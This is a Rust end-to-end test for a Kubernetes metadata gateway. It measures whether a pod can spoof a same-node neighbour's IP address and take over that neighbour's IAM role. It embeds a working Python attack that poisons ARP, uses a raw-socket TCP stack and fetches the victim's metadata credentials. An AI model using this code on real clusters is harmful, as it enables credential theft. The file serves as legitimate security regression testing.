//! Finding 9 of issue 23, measured: imdsgate names a pod by its TCP source address, so on a plain
//! bridge CNI (this cluster's `bridge` plugin on cni0, no anti-spoofing) a neighbour on the same
//! node that can claim the victim's address gets the victim's role. Two pods on worker-0: a victim
//! with a permitted role and an attacker with none. The attacker sends ARP requests to the node's
//! gateway address "from" the victim's address at its own MAC (the node then files the victim's
//! address under the attacker's MAC) and asks the metadata service as the victim: with NET_ADMIN it
//! puts the address on its eth0 and uses the kernel's TCP; with NET_RAW alone it runs a TCP of its
//! own over a packet socket; with neither it cannot send a frame. Four attackers: (a) NET_ADMIN and
//! NET_RAW added, (b) the runtime's default capabilities (containerd's keep NET_RAW), (c) `drop:
//! [ALL]` (Pod Security restricted), (d) not root, default capabilities. The test asserts what each
//! gets and that the victim is served again afterwards (the figures say how long it was cut off),
//! so it documents what holds and fails if that changes.

use imdsgate_e2e::e2e_enabled;
use imdsgate_e2e::real_cluster::RealCluster;
use serde_json::Value;
use std::time::{Duration, Instant};

const STS: &str = "http://10.77.0.2:5000";

/// The attacker's program (python3 and iproute2 are in the workload image), run as
/// `python3 -c ATTACK <victim address>`; prints one JSON object: its capabilities, its own answer,
/// whether it could add the address and poison the node, and what it got as the victim.
const ATTACK: &str = r#"import json, os, random, socket, struct, subprocess, sys, threading, time

# The attacker: claims VICTIM's address towards the node (spoofed ARP requests to the gateway, whose
# kernel then files VICTIM -> our MAC) and asks the metadata service as VICTIM. With NET_ADMIN the
# address goes on eth0 and the kernel's TCP is used; with NET_RAW alone, a TCP of our own on a
# packet socket; with neither, nothing can be sent. Prints one JSON object.
VICTIM = sys.argv[1]
IMDS = "169.254.169.254"
out = {"victim": VICTIM}


def caps():
    for line in open("/proc/self/status"):
        if line.startswith("CapEff:"):
            v = int(line.split()[1], 16)
            return {"net_admin": bool(v >> 12 & 1), "net_raw": bool(v >> 13 & 1)}


def mac_of(dev):
    return bytes.fromhex(open("/sys/class/net/%s/address" % dev).read().strip().replace(":", ""))


def gateway():
    for line in open("/proc/net/route").readlines()[1:]:
        f = line.split()
        if f[1] == "00000000":
            return f[0], socket.inet_ntoa(struct.pack("<I", int(f[2], 16)))


def http(req, src=None):
    # The kernel's TCP (as ourselves, or as VICTIM once the address is ours).
    s = socket.create_connection((IMDS, 80), timeout=4, source_address=(src, 0) if src else None)
    s.sendall(req)
    data = b""
    while True:
        chunk = s.recv(65536)
        if not chunk:
            return data
        data += chunk


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


class Raw:
    # A TCP of our own: Ethernet frames out and in through an AF_PACKET socket (NET_RAW).
    def __init__(self, dev, gw_mac):
        self.s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.s.bind((dev, 0))
        self.s.settimeout(0.2)
        self.mac, self.gw_mac = mac_of(dev), gw_mac
        self.src, self.dst = socket.inet_aton(VICTIM), socket.inet_aton(IMDS)

    def send(self, sport, seq, ack, flags, payload=b""):
        tcp = struct.pack("!HHIIBBHHH", sport, 80, seq, ack, 5 << 4, flags, 64240, 0, 0) + payload
        pseudo = self.src + self.dst + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.randint(0, 65535), 0x4000, 64, 6, 0,
                         self.src, self.dst)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        self.s.send(self.gw_mac + self.mac + b"\x08\x00" + ip + tcp)

    def recv(self, sport, deadline):
        while time.time() < deadline:
            try:
                frame, addr = self.s.recvfrom(65536)
            except socket.timeout:
                continue
            if addr[2] == socket.PACKET_OUTGOING or frame[12:14] != b"\x08\x00":
                continue
            ip = frame[14:]
            ihl = (ip[0] & 15) * 4
            if ip[9] != 6 or ip[12:16] != self.dst or ip[16:20] != self.src:
                continue
            total = struct.unpack("!H", ip[2:4])[0]
            tcp = ip[ihl:total]
            sp, dp, seq, ack, off, flags = struct.unpack("!HHIIBB", tcp[:14])
            if sp == 80 and dp == sport:
                return seq, ack, flags, tcp[(off >> 4) * 4:]
        raise TimeoutError("no answer to %s:%d" % (VICTIM, sport))

    def http(self, req):
        sport, isn = random.randint(40000, 60000), random.randint(0, 2**31)
        deadline = time.time() + 6
        self.send(sport, isn, 0, 0x02)  # SYN
        while True:
            seq, ack, flags, _ = self.recv(sport, deadline)
            if flags & 0x12 == 0x12:
                break
        nxt, mine = (seq + 1) & 0xFFFFFFFF, (isn + 1) & 0xFFFFFFFF
        self.send(sport, mine, nxt, 0x18, req)  # ACK|PSH with the request
        mine = (mine + len(req)) & 0xFFFFFFFF
        data = b""
        while True:
            seq, ack, flags, payload = self.recv(sport, deadline)
            if flags & 0x04:
                raise ConnectionResetError("reset")
            if seq == nxt and payload:
                data += payload
                nxt = (nxt + len(payload)) & 0xFFFFFFFF
            if flags & 0x01 and seq + len(payload) & 0xFFFFFFFF == nxt:
                nxt = (nxt + 1) & 0xFFFFFFFF
                self.send(sport, mine, nxt, 0x11)  # FIN|ACK
                return data
            self.send(sport, mine, nxt, 0x10)  # ACK


def poison(dev, gw_ip, gw_mac, stop):
    # ARP requests for the gateway's address "from" VICTIM at our MAC, unicast to the gateway: the
    # node files VICTIM -> our MAC (a request to a local address updates or creates the sender's
    # entry, overriding). Repeated, so the node's probes never settle it back.
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
    s.bind((dev, 0))
    mac = mac_of(dev)
    arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 1, mac, socket.inet_aton(VICTIM), b"\0" * 6,
                      socket.inet_aton(gw_ip))
    out["arp_sent"] = 0
    while not stop.is_set():
        s.send(gw_mac + mac + b"\x08\x06" + arp)
        out["arp_sent"] += 1
        stop.wait(0.2)


def req(method, path, headers=""):
    return ("%s %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n%s\r\n" % (method, path, IMDS, headers)).encode()


def status_body(resp):
    head, _, body = resp.partition(b"\r\n\r\n")
    return int(head.split()[1]), body.decode(errors="replace")


def main():
    out["caps"] = caps()
    dev, gw_ip = gateway()
    # As ourselves first: our own answer (no role), and the gateway's MAC in our neighbour table.
    try:
        out["own"] = status_body(http(req("GET", "/latest/meta-data/iam/security-credentials/")))[0]
    except Exception as e:
        out["own"] = repr(e)
    gw_mac = None
    for line in open("/proc/net/arp").readlines()[1:]:
        f = line.split()
        if f[0] == gw_ip:
            gw_mac = bytes.fromhex(f[3].replace(":", ""))
    r = subprocess.run(["ip", "addr", "add", VICTIM + "/32", "dev", dev], capture_output=True, text=True)
    out["addr_add"] = "ok" if r.returncode == 0 else r.stderr.strip()
    stop = threading.Event()
    try:
        # Reach for the packet socket first: without NET_RAW, nothing below can be sent.
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806)).close()
        t = threading.Thread(target=poison, args=(dev, gw_ip, gw_mac, stop), daemon=True)
        t.start()
        out["poison"] = "ok"
    except Exception as e:
        out["poison"] = repr(e)
        return
    time.sleep(0.5)
    if out["addr_add"] == "ok":
        out["tcp"] = "kernel"
        ask = lambda r: http(r, VICTIM)
    else:
        out["tcp"] = "raw"
        raw = Raw(dev, gw_mac)
        ask = raw.http
    try:
        code, token = status_body(ask(req("PUT", "/latest/api/token", "X-aws-ec2-metadata-token-ttl-seconds: 60\r\n")))
        out["token"] = code
        hdr = "X-aws-ec2-metadata-token: %s\r\n" % token
        code, role = status_body(ask(req("GET", "/latest/meta-data/iam/security-credentials/", hdr)))
        out["role"] = [code, role.strip()]
        if code == 200:
            code, body = status_body(ask(req("GET", "/latest/meta-data/iam/security-credentials/" + role.strip(), hdr)))
            doc = json.loads(body) if code == 200 else {}
            out["creds"] = [code, doc.get("Code"), bool(doc.get("AccessKeyId"))]
    except Exception as e:
        out["error"] = repr(e)
    finally:
        stop.set()
        if out["addr_add"] == "ok":
            subprocess.run(["ip", "addr", "del", VICTIM + "/32", "dev", dev], capture_output=True)


try:
    main()
finally:
    print(json.dumps(out), flush=True)
"#;

/// A pod of the workload image on worker-0 in `team-a` that sleeps, with the role annotation and
/// the container's securityContext if given.
fn pod(name: &str, role: Option<&str>, security: &str) -> String {
    let annotations =
        role.map(|r| format!("  annotations:\n    iam.amazonaws.com/role: {r}\n")).unwrap_or_default();
    format!(
        "apiVersion: v1\nkind: Pod\nmetadata:\n  name: {name}\n  namespace: team-a\n{annotations}spec:\n  \
         nodeName: worker-0\n  terminationGracePeriodSeconds: 0\n  containers:\n    - name: main\n      \
         image: localhost/imdsgate/workload:dev\n      imagePullPolicy: Never\n      command: [sleep, infinity]\n      \
         {security}\n      env:\n        - {{name: AWS_ENDPOINT_URL_STS, value: \"{STS}\"}}\n        \
         - {{name: AWS_REGION, value: us-east-1}}\n"
    )
}

/// `kubectl exec` in a team-a pod: whether it exited 0, and its stdout and stderr.
fn exec(cluster: &RealCluster, pod: &str, args: &[&str]) -> (bool, String) {
    let out = cluster
        .kubectl_command()
        .args(["-n", "team-a", "exec", pod, "--"])
        .args(args)
        .stdin(std::process::Stdio::null())
        .output()
        .expect("kubectl exec");
    let text = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    (out.status.success(), text)
}

/// Seconds until the victim's SDK gets its own role again, and how many runs of it that took
/// (each cut at 10 s, for at most 90 s).
fn victim_back(cluster: &RealCluster) -> (f64, u32) {
    let started = Instant::now();
    let mut last = String::new();
    let mut runs = 0;
    while started.elapsed() < Duration::from_secs(90) {
        runs += 1;
        let (ok, out) = exec(cluster, "victim", &["timeout", "10", "imds-whoami"]);
        if ok && out.contains("assumed-role/app-reader/team-a.victim") {
            return (started.elapsed().as_secs_f64(), runs);
        }
        last = out;
    }
    panic!("the victim did not get its role back within 90 s after the attack; last: {last}");
}

#[tokio::test]
async fn a_bridge_neighbour_spoofing_a_pods_address() {
    if !e2e_enabled("a_bridge_neighbour_spoofing_a_pods_address") {
        return;
    }
    let cluster = RealCluster::up().expect("scripts/cluster.sh up");
    eprintln!("figure: cluster up in {:.1}s", cluster.up_time.as_secs_f64());
    let k = |args: &[&str]| cluster.kubectl(args).unwrap_or_else(|e| panic!("kubectl {args:?}: {e:#}"));
    let started = Instant::now();
    cluster.install_local_overlay(Duration::from_secs(300)).expect("imdsgate installed");
    k(&["create", "namespace", "team-a"]);
    k(&[
        "annotate",
        "namespace",
        "team-a",
        "iam.amazonaws.com/permitted=arn:aws:iam::123456789012:role/app-.*",
    ]);

    // (name, securityContext, capabilities it ends up with: NET_ADMIN, NET_RAW)
    let cases = [
        ("attacker-admin", "securityContext: {capabilities: {add: [NET_ADMIN, NET_RAW]}}", (true, true)),
        ("attacker-default", "securityContext: {}", (false, true)),
        ("attacker-restricted", "securityContext: {capabilities: {drop: [ALL]}}", (false, false)),
        // Not root, capabilities as the runtime gives them: none effective (this image's binaries
        // carry no file capabilities; an attacker's own image could, unless drop or no_new_privs).
        ("attacker-nonroot", "securityContext: {runAsUser: 1000}", (false, false)),
    ];
    cluster.apply_yaml(&pod("victim", Some("app-reader"), "securityContext: {}")).unwrap();
    for (name, security, _) in &cases {
        cluster.apply_yaml(&pod(name, None, security)).unwrap();
    }
    k(&["-n", "team-a", "wait", "--for=condition=Ready", "pod", "--all", "--timeout=120s"]);
    let victim_ip = k(&["-n", "team-a", "get", "pod", "victim", "-o", "jsonpath={.status.podIP}"]);
    assert!(victim_ip.starts_with("10.244.2."), "the victim is on worker-0's bridge: {victim_ip}");
    let (before, _) = victim_back(&cluster);
    eprintln!(
        "figure: installed, pods ready and the victim served in {:.1}s",
        started.elapsed().as_secs_f64()
    );
    assert!(before < 15.0, "the victim needed {before:.1}s before any attack");

    for (name, _, (net_admin, net_raw)) in &cases {
        let attacked = Instant::now();
        let (_, text) = exec(&cluster, name, &["timeout", "60", "python3", "-c", ATTACK, &victim_ip]);
        let got: Value = text
            .lines()
            .find_map(|l| serde_json::from_str(l).ok())
            .unwrap_or_else(|| panic!("{name}: no result: {text}"));
        let took = attacked.elapsed().as_secs_f64();
        let (back, runs) = victim_back(&cluster);
        eprintln!(
            "figure: {name}: {got} (in {took:.1}s); the victim served again after {back:.1}s ({runs} runs)"
        );
        assert_eq!(got["caps"]["net_admin"], *net_admin, "{name}: {got}");
        assert_eq!(got["caps"]["net_raw"], *net_raw, "{name}: {got}");
        assert_eq!(got["own"], 404, "{name} has no role of its own: {got}");
        if *net_raw {
            // Hijacked: A's role name and a credentials document, through the kernel's TCP with
            // NET_ADMIN or a TCP of its own with NET_RAW alone.
            assert_eq!(got["tcp"], if *net_admin { "kernel" } else { "raw" }, "{name}: {got}");
            assert_eq!(got["role"], serde_json::json!([200, "app-reader"]), "{name}: {got}");
            assert_eq!(got["creds"], serde_json::json!([200, "Success", true]), "{name}: {got}");
        } else {
            // Nothing leaves: no address, no packet socket, so no request as the victim.
            assert!(got["addr_add"].as_str().is_some_and(|e| e.contains("not permitted")), "{name}: {got}");
            assert!(got["poison"].as_str().is_some_and(|e| e.contains("PermissionError")), "{name}: {got}");
            assert!(got.get("token").is_none() && got.get("creds").is_none(), "{name}: {got}");
            assert!(back < 15.0, "{name} could not send, yet the victim needed {back:.1}s");
        }
    }
}
